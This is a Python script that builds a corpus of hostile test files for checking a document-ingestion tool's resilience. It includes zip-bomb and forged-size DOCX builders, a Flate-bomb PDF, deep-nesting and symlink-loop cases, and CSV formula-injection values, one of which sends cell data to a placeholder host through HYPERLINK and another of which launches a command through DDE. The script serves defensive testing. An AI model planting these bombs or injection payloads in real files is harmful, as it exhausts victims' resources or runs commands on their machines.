"""Generate the hostile-file corpus: every file is built here, nothing is downloaded.

    python bench/make_hostile_corpus.py DOSSIER

writes one file (or folder) per case of :data:`CASES` under DOSSIER. The
functions are also used by the tests (``tests/ingest/test_hostile_files.py``)
to build the same files at a smaller scale. ``bench/run_hostile_corpus.py``
feeds each case to the real command line and writes the table of
``bench/results-safety.md``.
"""
from __future__ import annotations

import io
import json
import os
import struct
import sys
import zipfile
import zlib
from pathlib import Path

import docx
import pypdf
from fpdf import FPDF

SENTENCE = "La coopérative Textiles du Causse adhère au réseau Bois Vivant depuis le printemps."
_MIB = 1024 * 1024


# --- Word documents (zip archives) ------------------------------------------------------------

def docx_bytes(paragraphs: list[str]) -> bytes:
    """A small, valid Word document holding these paragraphs."""
    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _copy_docx(out: io.BytesIO, replace: dict[str, bytes] | None = None) -> zipfile.ZipFile:
    """A new archive written to ``out`` holding a small docx's entries (``replace`` gives new contents by name)."""
    replace = replace or {}
    target = zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9)
    with zipfile.ZipFile(io.BytesIO(docx_bytes([SENTENCE]))) as source:
        for item in source.infolist():
            target.writestr(item.filename, replace.get(item.filename, source.read(item.filename)))
    return target


def zip_bomb_docx(path: Path, unzipped_mib: int = 1024) -> Path:
    """A valid docx carrying one extra entry of ``unzipped_mib`` MiB of zeros (about 1 MB on disk per GiB)."""
    out = io.BytesIO()
    with _copy_docx(out) as archive, archive.open("word/media/image1.bin", "w", force_zip64=True) as entry:
        chunk = bytes(_MIB)
        for _ in range(unzipped_mib):
            entry.write(chunk)
    path.write_bytes(out.getvalue())
    return path


def body_xml(paragraph_count: int, paragraph: bytes = b"<w:p><w:r><w:t>x</w:t></w:r></w:p>") -> bytes:
    """A ``word/document.xml`` of ``paragraph_count`` copies of ``paragraph``."""
    head = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>')
    return head + paragraph * paragraph_count + b"</w:body></w:document>"


def many_paragraphs_docx(path: Path, paragraph_count: int = 3_000_000) -> Path:
    """A docx whose body holds ``paragraph_count`` empty paragraphs (some 18 MB of XML, 100 KB on disk)."""
    out = io.BytesIO()
    with _copy_docx(out, {"word/document.xml": body_xml(paragraph_count, b"<w:p/>")}):
        pass
    path.write_bytes(out.getvalue())
    return path


def many_entries_docx(path: Path, entries: int = 20_000) -> Path:
    """A valid docx padded with ``entries`` tiny extra entries."""
    out = io.BytesIO()
    with _copy_docx(out) as archive:
        for number in range(entries):
            archive.writestr(f"customXml/extra{number}.xml", b"<a/>")
    path.write_bytes(out.getvalue())
    return path


def forged_size_docx(path: Path, paragraph_count: int = 5_000_000) -> Path:
    """A docx whose body says it holds 1 KB but inflates to ``paragraph_count`` paragraphs
    (some 170 MB): the size is forged in both the entry's header and the archive's directory."""
    out = io.BytesIO()
    with _copy_docx(out, {"word/document.xml": body_xml(paragraph_count)}):
        pass
    data = bytearray(out.getvalue())
    name = b"word/document.xml"
    # (signature, offset of the uncompressed size, offset of the name length, offset of the name)
    for signature, size_at, length_at, name_at in ((b"PK\x03\x04", 22, 26, 30), (b"PK\x01\x02", 24, 28, 46)):
        start = data.find(signature)
        while start != -1:
            length = struct.unpack_from("<H", data, start + length_at)[0]
            if data[start + name_at:start + name_at + length] == name:
                struct.pack_into("<I", data, start + size_at, 1024)
            start = data.find(signature, start + 4)
    path.write_bytes(bytes(data))
    return path


# --- PDF -------------------------------------------------------------------------------------

def pdf_bytes(pages: list[str]) -> bytes:
    """A PDF with one text page per string (core font)."""
    pdf = FPDF()
    pdf.set_font("Helvetica", size=11)
    for text in pages:
        pdf.add_page()
        pdf.multi_cell(0, 6, text)
    return bytes(pdf.output())


def encrypted_pdf(path: Path, user_password: str, algorithm: str) -> Path:
    """A text PDF encrypted with ``algorithm`` (``AES-128``, ``AES-256``, ``RC4-128``); "" opens it."""
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(pdf_bytes([SENTENCE])))
    writer.encrypt(user_password, owner_password="proprietaire-du-rapport", algorithm=algorithm)
    with path.open("wb") as fh:
        writer.write(fh)
    return path


def many_pages_pdf(path: Path, pages: int = 20_000) -> Path:
    """A PDF of ``pages`` blank pages."""
    writer = pypdf.PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=200, height=200)
    with path.open("wb") as fh:
        writer.write(fh)
    return path


def flate_bomb_pdf(path: Path, unzipped_mib: int = 300) -> Path:
    """A one-page PDF whose content stream inflates to ``unzipped_mib`` MiB of spaces."""
    compressor = zlib.compressobj(9)
    chunk = b" " * _MIB
    stream = b"".join(compressor.compress(chunk) for _ in range(unzipped_mib)) + compressor.flush()
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
               b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
               b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream"]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    path.write_bytes(bytes(out))
    return path


# --- text formats ----------------------------------------------------------------------------

def deep_html(path: Path, depth: int = 100_000) -> Path:
    """An HTML page whose one sentence sits inside ``depth`` nested ``<div>``."""
    path.write_text("<html><body>" + "<div>" * depth + f"<p>{SENTENCE}</p>" + "</div>" * depth
                    + "</body></html>", encoding="utf-8")
    return path


def deep_markdown(path: Path, depth: int = 100_000) -> Path:
    """A Markdown file whose sentence sits inside ``depth`` nested block quotes."""
    path.write_text(">" * depth + " " + SENTENCE + "\n", encoding="utf-8")
    return path


def big_text(path: Path, mib: int = 6) -> Path:
    """A text file of ``mib`` MiB."""
    line = (SENTENCE + "\n").encode("utf-8")
    path.write_bytes(line * (mib * _MIB // len(line) + 1))
    return path


# --- folders with links ------------------------------------------------------------------------

def linked_folder(folder: Path) -> Path:
    """A folder with one good text file beside a link loop, a self link, a broken link,
    a link to its parent folder, a link to ``/dev/zero`` and a named pipe."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "bon.txt").write_text(SENTENCE + "\n", encoding="utf-8")
    for name, target in (("boucle-a.txt", "boucle-b.txt"), ("boucle-b.txt", "boucle-a.txt"),
                         ("soi-meme.txt", "soi-meme.txt"), ("casse.txt", "absent.txt"),
                         ("parent", ".."), ("zeros.txt", "/dev/zero")):
        os.symlink(target, folder / name)
    os.mkfifo(folder / "tube.txt")
    return folder


# --- decisions files -------------------------------------------------------------------------

RENAME = {"action": "rename", "id": "d1", "author": "Alice", "at": "2026-03-01T09:30:00+00:00",
          "params": {"actor": "textiles-du-causse", "name": "Textiles du Causse"}}


def decisions_files(folder: Path) -> dict[str, Path]:
    """Bad decisions files by case name: 100,000 levels, integer id, list as author, date 5, 21 MB."""
    folder.mkdir(parents=True, exist_ok=True)
    contents = {
        "profond": b'{"decisions": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
        "id-entier": json.dumps({"decisions": [{**RENAME, "id": 7}]}).encode(),
        "auteur-liste": json.dumps({"decisions": [{**RENAME, "author": ["Alice", "Bob"]}]}).encode(),
        "date-5": json.dumps({"decisions": [{**RENAME, "at": 5}]}).encode(),
        "enorme": json.dumps({"decisions": [RENAME]}).encode() + b" " * (21 * _MIB),
    }
    paths = {}
    for name, content in contents.items():
        paths[name] = folder / f"{name}.json"
        paths[name].write_bytes(content)
    return paths


# --- CSV injection -----------------------------------------------------------------------------

FORMULA_NAMES = ['=HYPERLINK("http://exemple.invalid/?v="&A1;"Voir")', "+33 1 23 45", "-2+3+cmd|' /C calc'!A0",
                 "@SOMME(A1:A9)"]


def formula_actors_csv(path: Path) -> Path:
    """An actors CSV whose names start with formula characters (plus one ordinary actor, a CCI)."""
    rows = ["id,name,kinds"] + [f'f{n},"{name.replace(chr(34), chr(34) * 2)}",cluster'
                                 for n, name in enumerate(FORMULA_NAMES)]
    rows.append("cci,Chambre de commerce du Causse,cci")
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    return path


# --- the corpus ------------------------------------------------------------------------------

def make_corpus(root: Path) -> dict[str, Path]:
    """Write every hostile file under ``root``; returns the path of each case by name."""
    root.mkdir(parents=True, exist_ok=True)
    files = {
        "temoin": root / "temoin.docx",
        "bombe-zip": zip_bomb_docx(root / "bombe.docx"),
        "paragraphes": many_paragraphs_docx(root / "paragraphes.docx"),
        "entrees": many_entries_docx(root / "entrees.docx"),
        "taille-falsifiee": forged_size_docx(root / "falsifie.docx"),
        "aes128-vide": encrypted_pdf(root / "aes128-restreint.pdf", "", "AES-128"),
        "aes256-vide": encrypted_pdf(root / "aes256-restreint.pdf", "", "AES-256"),
        "aes256-mdp": encrypted_pdf(root / "aes256-secret.pdf", "motdepasse", "AES-256"),
        "rc4-mdp": encrypted_pdf(root / "rc4-secret.pdf", "motdepasse", "RC4-128"),
        "pdf-pages": many_pages_pdf(root / "pages.pdf"),
        "pdf-bombe": flate_bomb_pdf(root / "bombe.pdf"),
        "html-profond": deep_html(root / "profond.html"),
        "md-profond": deep_markdown(root / "profond.md"),
        "texte-6mo": big_text(root / "gros.txt"),
        "liens": linked_folder(root / "liens"),
        "acteurs-formules": formula_actors_csv(root / "acteurs-formules.csv"),
    }
    files["temoin"].write_bytes(docx_bytes([SENTENCE]))
    files.update({f"decisions-{name}": path for name, path in decisions_files(root / "decisions").items()})
    return files


if __name__ == "__main__":
    if len(sys.argv) != 2 or sys.argv[1].startswith("-"):
        sys.exit("usage : python bench/make_hostile_corpus.py DOSSIER")
    for case, where in make_corpus(Path(sys.argv[1])).items():
        print(f"{case:20} {where}")
